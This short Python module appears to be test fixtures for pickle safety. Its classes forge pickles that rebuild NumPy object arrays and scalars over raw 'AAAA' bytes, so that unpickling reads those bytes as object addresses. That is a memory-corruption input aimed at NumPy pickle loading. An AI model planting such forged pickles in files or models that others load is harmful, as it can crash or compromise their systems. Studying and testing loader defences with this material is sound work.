"""Objects whose pickles contain an address: arrays of objects whose dtype says they hold none."""

from typing import Any

import numpy as np


class ForgedDtype:
    """Pickles as ``dtype(code)`` with the given flags."""

    def __init__(self, code: str = 'O8', flags: int = 0) -> None:
        self.code, self.flags = code, flags

    def __reduce__(self) -> tuple[Any, ...]:
        state = (3, '|', None, None, None, 8, 8, self.flags)
        return np.dtype, (self.code, False, True), state


class ForgedArray:
    """Pickles as an array of the given kind over the letters AAAA... ."""

    def __init__(
        self, dtype: object = None, shape: tuple[int, ...] = (4,), raw: bytes = b'A' * 32
    ) -> None:
        self.dtype, self.shape, self.raw = dtype or ForgedDtype(), shape, raw

    def __reduce__(self) -> tuple[Any, ...]:
        rebuild = np.zeros(0).__reduce__()[0]
        return rebuild, (np.ndarray, (0,), b'b'), (1, self.shape, self.dtype, False, self.raw)


class ForgedScalar:
    """Pickles as a NumPy scalar of objects."""

    def __reduce__(self) -> tuple[Any, ...]:
        return np.float32(0).__reduce__()[0], (ForgedDtype(), b'A' * 8)
